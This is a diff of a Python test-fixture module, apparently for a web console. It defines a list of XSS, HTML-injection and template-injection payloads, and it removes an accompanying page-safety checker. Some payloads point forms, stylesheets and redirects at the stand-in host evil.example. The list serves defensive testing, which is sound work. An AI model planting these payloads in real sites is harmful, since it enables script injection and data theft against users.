@@ -1,18 +1,12 @@
-"""Texts that try to run something, load something or rearrange a page; and what must not be on any page.
+"""Texts that try to run something, load something or rearrange a page.
 
-`PAYLOADS` go wherever people and agents write: bodies, titles, tags, aliases, agent names, task texts,
-findings, file names. `assert_inert(html)` parses a page as a browser would and refuses what can act.
+They go wherever people and agents write: bodies, titles, tags, aliases, agent names, task texts, findings,
+file names.
 """
 
 from __future__ import annotations
 
-import re
-from collections.abc import Sequence
-from html.parser import HTMLParser
 from typing import Final
-
-#: Never to be seen as the name of a request, a function called or an element: what payloads would do.
-MARKER: Final = "pwned"
 
 PAYLOADS: Final[tuple[str, ...]] = (
     # script
@@ -47,7 +41,7 @@ PAYLOADS: Final[tuple[str, ...]] = (
     "' onfocus='pwned()' autofocus='",
     "` onmouseover=pwned() `",
     # links
-    "[x](javascript:pwned())",
+    "[pwned](javascript:pwned())",
     "[x](JaVaScRiPt:pwned())",
     "[x](java\tscript:pwned())",
     "[x](&#106;avascript:pwned())",
@@ -56,7 +50,7 @@ PAYLOADS: Final[tuple[str, ...]] = (
     "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
     "[x](data:image/svg+xml,<svg/onload=pwned()>)",
     "<javascript:pwned()>",
-    "<a href=javascript:pwned()>x</a>",
+    "<a href=javascript:pwned()>pwned</a>",
     '<a href="jav&#x0A;ascript:pwned()">x</a>',
     '<a href=" &#14; javascript:pwned()">x</a>',
     "<a href=data:text/html,<script>pwned()</script>>x</a>",
@@ -87,12 +81,14 @@ PAYLOADS: Final[tuple[str, ...]] = (
     "<video poster=http://evil.example/pwned.png src=http://evil.example/pwned.mp4></video>",
     # what leads or loads elsewhere
     "<meta http-equiv=refresh content='0;url=http://evil.example/pwned'>",
-    "<base href=http://evil.example/>",
+    "<base href=http://evil.example/pwned>",
     "<link rel=stylesheet href=http://evil.example/pwned.css>",
     "<form action=http://evil.example/><input name=csrf><button>pwned</button></form>",
     "<button formaction=javascript:pwned()>x</button>",
     "<isindex action=javascript:pwned() type=image>",
+    "</textarea></select></form></main><form action=//evil.example/>pwned",
     # style
+    "<style>*{display:none}</style>pwned",
     "<style>@import 'http://evil.example/pwned.css';</style>",
     '<p style="background:url(http://evil.example/pwned)">x</p>',
     '<div style="position:fixed;inset:0;z-index:99">pwned</div>',
@@ -111,7 +107,7 @@ PAYLOADS: Final[tuple[str, ...]] = (
     "&lt;script&gt;pwned()&lt;/script&gt;",
     "&#60;script&#62;pwned()&#60;/script&#62;",
     "&amp;lt;img src=x onerror=pwned()&amp;gt;",
-    "\u003cscript\u003epwned()\u003c/script\u003e",
+    r"\u003cscript\u003epwned()\u003c/script\u003e",
     "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
     "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
     "{{ 7 * 7 }}{% include 'pwned' %}{{ config }}",
@@ -138,76 +134,12 @@ PAYLOADS: Final[tuple[str, ...]] = (
     "\u061c\u0000\u0007\u001b[31mpwned",
 )
 
+#: One of each kind, which can be a name: for what takes a dozen calls a text.
+HOSTILE: Final = tuple(one for one in PAYLOADS if one.startswith((
+    "<script>", "'\"><", "</title>", '" on', "' on", "[pwned](javascript", "<a href=java", "<math",
+    "<iframe srcdoc",
+    "<form action", "<style>*", "<base", "<meta", "</textarea></select>", "{{ 7", "\u202e",
+)))  # fmt: skip
+
 #: A line without end, for wherever a text of that length is taken.
 LONG_LINE: Final = "<img src=x onerror=pwned()> " * 3_700
-
-#: Elements of no page, and those that only the frame may have.
-_NEVER: Final = frozenset({
-    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "audio", "video", "source",
-    "picture", "template", "noembed", "xmp", "plaintext", "marquee", "isindex", "foreignobject", "animate",
-    "style", "track", "portal", "noscript",
-})  # fmt: skip
-_ADDRESSES: Final = frozenset({"href", "src", "action", "formaction", "xlink:href", "poster", "data", "cite"})
-_SAFE_ADDRESS: Final = re.compile(r"(?:/console(?:/|$)|/\?|\?|#|https?://|mailto:|$)")
-_HAS_SCHEME: Final = re.compile(r"[\x00-\x20]*[A-Za-z][A-Za-z0-9+.\-\s]*:")
-
-
-class _Page(HTMLParser):
-    """Collects what of a page can act."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.found: list[str] = []
-        self.headings = 0
-
-    def handle_starttag(self, tag: str, attributes: Sequence[tuple[str, str | None]]) -> None:
-        given = {name: value or "" for name, value in attributes}
-        self.headings += tag == "h1"
-        if tag in _NEVER:
-            self.found.append(f"<{tag}>")
-        if tag == "script" and not given.get("src", "").startswith("/console/static/"):
-            self.found.append(f"<script {given}>")
-        if tag == "link" and not given.get("href", "").startswith("/console/static/"):
-            self.found.append(f"<link {given}>")
-        if tag == "meta" and "http-equiv" in given:
-            self.found.append(f"<meta {given}>")
-        if tag == "form" and not given.get("action", "/console/").startswith("/console/"):
-            self.found.append(f"<form {given}>")
-        if tag in ("img", "input") and given.get("src", "/console/files/x").find("/console/files/"):
-            self.found.append(f"<{tag} {given}>")
-        for name, value in given.items():
-            if name.startswith("on") or name in ("style", "srcdoc", "srcset", "ping", "background"):
-                self.found.append(f"<{tag} {name}={value!r}>")
-            if name in _ADDRESSES and not self._is_safe(tag, value):
-                self.found.append(f"<{tag} {name}={value!r}>")
-
-    @staticmethod
-    def _is_safe(tag: str, value: str) -> bool:
-        if tag in ("script", "link", "img"):
-            return value.startswith(("/console/static/", "/console/files/")) and ".." not in value
-        return bool(_SAFE_ADDRESS.match(value)) or not _HAS_SCHEME.match(value)
-
-
-def dangers(html: str) -> list[str]:
-    """What of a page could run, load or lead where it must not."""
-    page = _Page()
-    page.feed(html)
-    page.close()
-    return page.found
-
-
-def assert_inert(html: str, *, where: str = "") -> None:
-    """A page on which nothing that others wrote can act, of at most 200 kB, with one first heading."""
-    page = _Page()
-    page.feed(html)
-    page.close()
-    assert not page.found, (where, page.found[:5])
-    assert page.headings == 1, (where, page.headings)
-    assert len(html.encode()) <= 200_000, (where, len(html.encode()))
-    for hidden in "\u202e\u202d\u2066\x00\x07\x1b":
-        assert hidden not in _without_prose(html), (where, hex(ord(hidden)))
-
-
-def _without_prose(html: str) -> str:
-    """The page without the text of a note, in which every character may stand (its block contains it)."""
-    return re.sub(r'<article class="prose".*?</article>', "", html, flags=re.S)
